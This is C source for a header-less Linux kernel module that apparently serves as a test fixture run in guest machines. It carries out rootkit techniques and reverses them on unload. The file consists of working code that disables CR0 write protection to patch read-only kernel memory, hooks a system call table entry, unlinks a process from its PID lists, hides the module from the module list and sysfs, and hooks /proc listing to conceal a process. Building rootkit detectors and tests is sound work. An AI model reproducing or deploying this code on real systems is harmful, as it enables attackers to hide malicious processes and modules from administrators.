/* A module that does one thing of those that rootkits do, and undoes it when it is
 * removed where that can be. It is built without the kernel's headers: the test reads
 * sizes and offsets from the running kernel's types and addresses from its symbols, and
 * gives them as macros. For guests only. */

typedef unsigned long word;

static int start(void);
static void stop(void);

/* The kernel's struct module, of which the loader wants a name and two functions. */
struct module {
	char a[NAME_AT];
	char name[56];
	char b[INIT_AT - NAME_AT - 56];
	int (*init)(void);
	char c[EXIT_AT - INIT_AT - 8];
	void (*exit)(void);
	char d[MODULE_SIZE - EXIT_AT - 8];
} __attribute__((packed));

struct module __this_module __attribute__((section(".gnu.linkonce.this_module"), aligned(64))) = {
	.name = NAME, .init = start, .exit = stop,
};

static const char info[] __attribute__((section(".modinfo"), used, aligned(1))) =
	"license=GPL\0vermagic=" VERMAGIC "\0name=" NAME;

#ifdef LAYOUT_CRC
static const struct { word crc; char name[56]; } versions[] __attribute__((section("__versions"), used)) = {
	{ LAYOUT_CRC, "module_layout" },
};
#endif

/* poke writes a word that the kernel keeps from being written. */
static void poke(volatile word *where, word what)
{
	word flags, cr0;

	asm volatile("pushfq; popq %0; cli" : "=r"(flags) :: "memory");
	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	asm volatile("mov %0, %%cr0" :: "r"(cr0 & ~0x10000UL) : "memory");
	*where = what;
	asm volatile("mov %0, %%cr0" :: "r"(cr0) : "memory");
	asm volatile("pushq %0; popfq" :: "r"(flags) : "memory");
}

#if defined(TABLE)
/* K2: a system call that is none gets a function. */
static word *const entry = (word *)TABLE + 134;
static word before;

static long answer(void) { return -38; }
static int start(void)
{
	before = *entry;
	poke(entry, (word)answer);
	return 0;
}
static void stop(void) { poke(entry, before); }

#elif defined(FIND_VPID)
/* K3: a process is taken off the lists by which its number is found. */
static word *tasks, before[2];

static int start(void)
{
	tasks = (word *)(((char *(*)(int))FIND_VPID)(PID) + TASKS_AT);
	before[0] = tasks[0], before[1] = tasks[1];
	tasks[0] = tasks[1] = 0;
	return 0;
}
static void stop(void) { tasks[0] = before[0], tasks[1] = before[1]; }

#elif defined(KOBJECT_DEL)
/* K4: the module takes itself off the list of modules and out of sysfs. */
struct list { struct list *next, *prev; };

static int start(void)
{
	struct list *l = (struct list *)((char *)&__this_module + LIST_AT);

	((void (*)(void *))KOBJECT_DEL)((char *)&__this_module + KOBJECT_AT);
	l->prev->next = l->next;
	l->next->prev = l->prev;
	return 0;
}
static void stop(void) { }

#elif defined(OPERATIONS)
/* K5: the listing of /proc goes through the module, which leaves out a process. */
typedef _Bool (*actor)(void *, const char *, int, long, word, unsigned int);

static word *const entry = (word *)(OPERATIONS + ITERATE_AT);
static word before;
static actor lister;

static _Bool leave_out(void *ctx, const char *name, int len, long pos, word ino, unsigned int type)
{
	static const char hidden[] = PID;
	int i;

	for (i = 0; i < len && hidden[i] == name[i]; i++)
		;
	if (i == len && !hidden[i])
		return 1;
	return lister(ctx, name, len, pos, ino, type);
}

static int list(void *file, actor *ctx)
{
	int ret;

	lister = *ctx;
	*ctx = leave_out;
	ret = ((int (*)(void *, actor *))before)(file, ctx);
	*ctx = lister;
	return ret;
}

static int start(void)
{
	before = *entry;
	poke(entry, (word)list);
	return 0;
}
static void stop(void) { poke(entry, before); }
#endif
